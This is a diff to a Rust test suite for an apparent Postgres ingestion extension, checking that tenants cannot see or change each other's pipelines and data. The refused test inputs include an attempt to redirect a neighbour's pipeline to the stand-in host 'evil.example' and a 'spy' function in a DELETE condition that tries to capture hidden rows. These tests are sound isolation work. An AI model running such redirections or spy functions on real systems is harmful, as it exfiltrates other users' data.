@@ -24,7 +24,7 @@ fn neighbour(db: &Database) -> String {
         &mut client,
         "INSERT INTO ingest.documents (pipeline, key, content, metadata) VALUES
              ('theirs', 'where the crown jewels are', 'The crown jewels are in the cellar.', '{\"what\": \"crown jewels\"}'),
-             ('theirs', 'no crown jewels', ''), ('also theirs', 'crown jewels', 'The crown jewels.')",
+             ('theirs', 'no crown jewels', '', '{}'), ('also theirs', 'crown jewels', 'The crown jewels.', '{}')",
     );
     drop(client);
     wait_until(
@@ -90,7 +90,7 @@ fn nothing_of_a_neighbour_is_shown_by_any_view_or_function() {
         "SELECT * FROM ingest.theirs_chunks",
         "SELECT ingest.pipeline_problem('also theirs')",
         "SELECT ingest.alter_pipeline('also theirs', base_url => 'https://evil.example/v1')",
-        "SELECT ingest.create_pipeline('mine', limits => 'limit of theirs')",
+        "SELECT ingest.create_pipeline('mine', model => 'openai/text-embedding-3-small', limits => 'limit of theirs')",
         "SELECT ingest.set_limit('limit of theirs', rpm => 1)",
         "SELECT ingest.drop_limit('limit of theirs')",
         "SELECT ingest.create_pipeline('mine', target => 'ingest.theirs_chunks')",
@@ -107,7 +107,7 @@ fn nothing_of_a_neighbour_is_shown_by_any_view_or_function() {
     }
     for sql in [
         "SELECT ingest.drop_limit('none')",
-        "SELECT ingest.create_pipeline('x', limits => 'none')",
+        "SELECT ingest.create_pipeline('x', model => 'openai/text-embedding-3-small', limits => 'none')",
         "SELECT ingest.pause('none')",
     ] {
         let error = refused(&mut client, sql);
@@ -163,13 +163,11 @@ fn a_function_in_a_condition_does_not_see_rows_that_are_left_out() {
         &mut client,
         "DELETE FROM ingest.documents WHERE app.spy(key)",
     );
-    assert_eq!(
-        column::<String>(
-            &mut client,
-            "SELECT what FROM app.seen WHERE what IS NOT NULL"
-        ),
-        Vec::<String>::new()
-    );
+    let seen = column::<Option<String>>(&mut client, "SELECT what FROM app.seen");
+    for secret in SECRETS {
+        let told = seen.iter().flatten().find(|what| what.contains(secret));
+        assert_eq!(told, None);
+    }
     assert_eq!(
         db.one::<i64>("SELECT count(*) FROM ingest.documents WHERE content = 'x'"),
         0
@@ -373,7 +371,7 @@ fn what_shadows_names_operators_and_casts_is_not_taken() {
         "SELECT ingest.resume('mine')",
         "SELECT * FROM ingest.doctor()",
         "SELECT * FROM ingest.estimate('mine')",
-        "SELECT count(*) FROM ingest.progress, ingest.limits, ingest.workers, ingest.pipelines",
+        "SELECT pg_catalog.count(*) FROM ingest.progress, ingest.limits, ingest.workers, ingest.pipelines",
         "SELECT ingest.grant_pipeline('mine', 'postgres')",
         "SELECT ingest.revoke_pipeline('mine', 'postgres')",
         "UPDATE ingest.documents SET metadata = '{\"a\": 1}' WHERE id > 0",
